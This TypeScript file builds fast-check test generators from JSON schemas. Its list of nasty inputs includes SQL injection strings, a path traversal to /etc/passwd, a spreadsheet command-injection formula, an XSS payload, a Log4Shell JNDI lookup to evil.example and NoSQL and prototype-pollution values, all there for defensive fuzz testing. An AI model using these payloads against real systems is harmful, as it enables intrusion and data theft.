import fc from "fast-check";
import type { Schema } from "./operations.ts";

/** What means something here: ids of rows, days, words, and such as go by a name of their own (a purpose, a number); and facts, kind by kind, of
 * which the document says only that each has a body. */
export type Known = {
  ids: readonly string[];
  days: readonly string[];
  words: readonly string[];
  named: Record<string, readonly unknown[]>;
  facts: readonly Schema[];
};

const NASTY: unknown[] = [
  "",
  " ",
  "\0",
  "a\0b",
  "\ud800",
  "\udfff\ud800",
  "﻿",
  "‮gnp.exe",
  "🀄".repeat(60),
  "长".repeat(3000),
  "Ⅷ．１",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "'; drop table fact; --",
  "%' or 1=1 --",
  "\\",
  "../../../etc/passwd",
  "..%2f",
  "=cmd|' /C calc'!A0",
  "<img src=x onerror=alert(1)>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "2026-02-30",
  "9999-12-31",
  "0000-00-00",
  "-271821-04-20",
  "00000000-0000-0000-0000-000000000000",
  "null",
  "true",
  "-0",
  "1e999",
  "0x10",
  "9007199254740993",
  -0,
  1e308,
  -1,
  0.1,
  true,
  null,
  [],
  {},
  [[[[]]]],
  { $ne: null },
  { length: 1e9 },
  { toJSON: "y", toString: "z", valueOf: "x" },
];

/** Values that are hardly ever right. */
export const nonsense: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

/** Values that a schema admits, those that are known here for preference; `name` is what it is called. */
export function valueOf(schema: Schema, known: Known, name?: string): fc.Arbitrary<unknown> {
  const own = known.named[name ?? ""];
  if (!own) return anyOf(schema, known);
  return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...own) }, { weight: 1, arbitrary: anyOf(schema, known) });
}

function anyOf(schema: Schema, known: Known): fc.Arbitrary<unknown> {
  if ("const" in schema) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const either = schema.anyOf ?? schema.oneOf;
  if (either) return fc.oneof(...either.map((one) => valueOf(one, known)));
  if (schema.allOf) return fc.tuple(...schema.allOf.map((one) => valueOf(one, known))).map((parts) => Object.assign({}, ...parts));
  return OF_TYPE[schema.type ?? ""]?.(schema, known) ?? fc.jsonValue({ maxDepth: 2 });
}

const OF_TYPE: Record<string, (schema: Schema, known: Known) => fc.Arbitrary<unknown>> = {
  string: textOf,
  integer: (schema) => fc.integer(within(schema)),
  number: (schema) => fc.double({ ...within(schema), noNaN: true }),
  boolean: () => fc.boolean(),
  null: () => fc.constant(null),
  array: ({ items = {}, minItems = 0, maxItems = 3 }, known) =>
    fc.array(valueOf(items, known), { minLength: minItems, maxLength: Math.max(minItems, Math.min(maxItems, 3)) }),
  object: (schema, known) => (isFact(schema) ? fc.oneof(...known.facts.map((one) => factOf(schema, one, known))) : objectOf(schema, known)),
};

const within = ({ minimum, maximum }: Schema) => ({
  min: Math.max(minimum ?? -1000, -(2 ** 31)),
  max: Math.min(maximum ?? 1000, 2 ** 31 - 1),
});

const isFact = ({ properties = {} }: Schema): boolean => ["id", "kind", "on", "body"].every((name) => name in properties);
const factOf = (schema: Schema, one: Schema, known: Known) =>
  objectOf({ ...schema, properties: { ...schema.properties, on: { type: "string", format: "date" }, ...one.properties } }, known);

function objectOf({ properties = {}, required = [], additionalProperties }: Schema, known: Known): fc.Arbitrary<unknown> {
  const named = fc.record(Object.fromEntries(Object.entries(properties).map(([name, one]) => [name, valueOf(one, known, name)])), {
    requiredKeys: required.filter((name) => name in properties),
  });
  if (additionalProperties === undefined || additionalProperties === false) return named;
  const free = additionalProperties === true ? {} : additionalProperties;
  const other = fc.dictionary(fc.string({ maxLength: 12 }), valueOf(free, known), { maxKeys: 2 });
  return fc.tuple(other, named).map(([more, those]) => ({ ...more, ...those }));
}

function textOf({ format, pattern, minLength = 0, maxLength = 60 }: Schema, { ids, days, words }: Known): fc.Arbitrary<string> {
  if (format === "uuid")
    return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...ids) }, { weight: 1, arbitrary: fc.uuid({ version: 7 }) });
  if (format === "date") return fc.constantFrom(...days);
  if (format === "date-time") return fc.constantFrom(...days).map((day) => `${day}T08:00:00Z`);
  const rule = pattern === undefined ? /^/ : new RegExp(pattern, "u");
  const fitting = [...words, ...ids, ...days].filter((word) => rule.test(word) && word.length >= minLength && word.length <= maxLength);
  const made = fc.string({ unit: "grapheme", minLength, maxLength: Math.min(Math.max(minLength, 12), maxLength) });
  if (fitting.length === 0) return pattern === undefined ? made : fc.stringMatching(rule);
  return fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...fitting) }, { weight: 1, arbitrary: made });
}
